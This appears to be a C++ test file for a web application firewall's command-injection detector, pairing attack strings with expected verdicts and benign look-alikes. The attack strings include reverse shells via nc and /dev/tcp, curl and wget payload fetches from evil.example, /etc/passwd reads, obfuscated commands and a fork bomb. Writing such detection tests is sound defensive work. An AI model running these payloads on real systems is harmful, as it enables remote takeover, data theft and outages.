#include "waf_test_util.h"

namespace rampart::waf {
namespace {

using testing::Case;
using testing::verdict;

TEST(CommandInjection, AttacksAreFound) {
  const Case cases[] = {
      {"; cat /etc/passwd", "path-traversal: sensitive file path"},
      {"127.0.0.1; whoami", "command-injection: command after shell separator"},
      {"x && curl http://evil.example/s.sh | sh",
       "command-injection: command after shell separator"},
      {"$(id)", "command-injection: command substitution"},
      {"`uname -a`", "command-injection: command substitution"},
      {"a|nc -e /bin/sh 10.0.0.1 4444", "command-injection: command after shell separator"},
      {";c\\at${IFS}x", "command-injection: command after shell separator"},
      {";w\'h\'oami", "command-injection: command after shell separator"},
      {"() { :; }; /bin/bash -c id", "command-injection: shellshock"},
      {"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "command-injection: reverse shell"},
      {"/?\?\?/?\?t /?\?\?/p?\?s?\?", "command-injection: wildcard path"},
      {"| powershell -enc SQBFAFgA", "command-injection: command after shell separator"},
      {"for /f %i in (x) do whoami", "command-injection: cmd for loop"},
      {"\nwget http://evil.example/x", "command-injection: command after shell separator"},
      {"cats & dogs", ""},
      {"$[2+2]", "command-injection: shell expansion"},
      {"${PATH#{}/}", "command-injection: shell expansion"},
      {"Hello ${name}, total ${total}", ""},
      {"alias a=c${KK}url&a google.com", "command-injection: command alias"},
      {"alias name=Robert", ""},
      {"/etc/pas[s]wd", "command-injection: wildcard path"},
      {"/usr/bin/[u]name -a", "command-injection: wildcard path"},
      {"use the regex /[a-z]+/ to match", ""},
      {"Try this:\nif x == 1:\n    print(x)", ""},
      {"if (a == b) {", ""},
      {"Fixed it: int x = 1; /*x*/ y = 2;", ""},
      {"IF /I NOT item1==item2 CMD", "command-injection: cmd if"},
      {"I'd like to select a different colour", ""},
      {"Thanks!\nI'd rather wait", ""},
      {"Quick one-liner: `du -sh * | sort -h` lists folder sizes.", ""},
      {"Tom & Jerry; cat lovers unite", ""},
      {"time flies", ""},
      {"I need more time; less stress", ""},
      {"ls", ""},
      {"Find the best shoes | free shipping", ""},
      {"Ping me at noon", ""},
      {"echo chamber", ""},
  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

TEST(CommandInjection, LookAlikesPass) {
  const Case cases[] = {

  };
  for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
}

}  // namespace
}  // namespace rampart::waf

namespace rampart::waf {
namespace {

TEST(CommandInjection, WindowsAndPrefixedForms) {
  EXPECT_EQ(testing::verdict("& FOR /F \"tokens=1\" %A IN (\"x\") DO @echo pwnd"),
            "command-injection: cmd for loop");
  EXPECT_EQ(testing::verdict("IF EXIST C:\\pagefile.sys CMD"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("time ifconfig"), "command-injection: command after a prefix command");
  EXPECT_EQ(testing::verdict("a=nc&&$a -nlvp 555"),
            "command-injection: command through a variable");
  EXPECT_EQ(testing::verdict("IF %ERRORLEVEL% EQU 2 goto sub"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("whoami;x"), "command-injection: command then shell separator");
  EXPECT_EQ(testing::verdict("find /etc -name passwd -exec cat {} +"),
            "command-injection: find -exec");
  EXPECT_EQ(testing::verdict("if/i a==b foo"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("if \"A A\" == \"A A\" echo same"), "command-injection: cmd if");
  EXPECT_EQ(testing::verdict("if you exist, say hi"), "");
  EXPECT_EQ(testing::verdict("if/when we meet, say hi"), "");
  EXPECT_EQ(testing::verdict("for all of us in the team, do good"), "");
}

}  // namespace
}  // namespace rampart::waf

namespace rampart::waf {
namespace {

// Evasions the tokenizer undoes before it judges the words, and shell constructs that need no
// command list; each with a look-alike that must pass.
TEST(CommandInjection, EvasionsAndShellConstructs) {
  const testing::Case cases[] = {
      {"una$$me -a", "command-injection: command with arguments"},
      {"uname$u -a", "command-injection: command with arguments"},
      {"pi``ng 127.0.0.1", "command-injection: obfuscated command"},
      {"ping$() 127.0.0.1", "command-injection: obfuscated command"},
      {"pi<()ng 127.0.0.1", "command-injection: obfuscated command"},
      {"\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3 cmd", "command-injection: obfuscated command"},
      {"kill '-'9", "command-injection: obfuscated command"},
      {"c{a,oun}t", "command-injection: obfuscated command"},
      {"{,ifconfig,eth0}", "command-injection: obfuscated command"},
      {"{,$'whoami',}", "command-injection: obfuscated command"},
      {"{red,green}", ""},
      {"pick {cat,dog}", ""},
      {"cat+/et*/*wd", "command-injection: wildcard path"},
      {"/?\?\?/b?\?h", "command-injection: wildcard path"},
      {"/* comment */", ""},
      {"f(){ f|f& };f", "command-injection: fork bomb"},
      {"test() { test | test & } test", "command-injection: fork bomb"},
      {"function f() { return 1; }", ""},
      {"() {", "command-injection: shellshock"},
      {"~+", ""},  // a bare tilde expansion runs nothing: level 3 only (crs_benign_fixes_test)
      {"~-1", ""},
      {"~5 minutes", ""},
      {"!!", "command-injection: history expansion"},
      {"!-1!-2", "command-injection: history expansion"},
      {"wow!!", ""},
      {"d=/dev&&(sh)0>$d/tcp/51.15.142.164/777", "command-injection: reverse shell"},
      {";\\n.shell id", "command-injection: sqlite dot command"},
      {"1;.sh whoami", "command-injection: sqlite dot command"},
      {";vim x +silent\\ \\!whoami +wq", "command-injection: editor running a command"},
      {"$SHELL -c \"echo hi\"", "command-injection: command with arguments"},
      {";$a cat test.txt", "command-injection: command after shell separator"},
      {"|$u wget test", "command-injection: command after shell separator"},
      {"garb=adduse[r];$garb pizza", "command-injection: command through a variable"},
      {"a=b; sh$XX -c whoami", "command-injection: command after shell separator"},
      {"Tom & Jerry; cat lovers unite", ""},
      {";gcc10.1<<<void main(){}", "command-injection: command after shell separator"},
      {";\n.databases", "command-injection: sqlite dot command"},
      {"see page 3; .5 inch margins", ""},
  };
  for (const testing::Case& c : cases) EXPECT_EQ(testing::verdict(c.input), c.expected) << c.input;
}

// Command lines that are the whole value: administration and package tools, options.
TEST(CommandInjection, CommandLinesAsValues) {
  const testing::Case cases[] = {
      {"ansible all -m ping", "command-injection: system administration command"},
      {"ansible-playbook site.yml", "command-injection: system administration command"},
      {"cscli alerts list", "command-injection: system administration command"},
      {"bin/ansible", "command-injection: command by absolute path"},
      {"shutdown timer windows 11", ""},
      {"pip install something", "command-injection: package installation command"},
      {"pip is a small seed", ""},
      {"env --version", "command-injection: command with options"},
      {"set -o history", "command-injection: command with options"},
      {"set the table", ""},
      {"time; ansible-config dump", "command-injection: command after shell separator"},
      {";ssh-copy-id user@server", "command-injection: command after shell separator"},
  };
  for (const testing::Case& c : cases) EXPECT_EQ(testing::verdict(c.input), c.expected) << c.input;
}

}  // namespace
}  // namespace rampart::waf
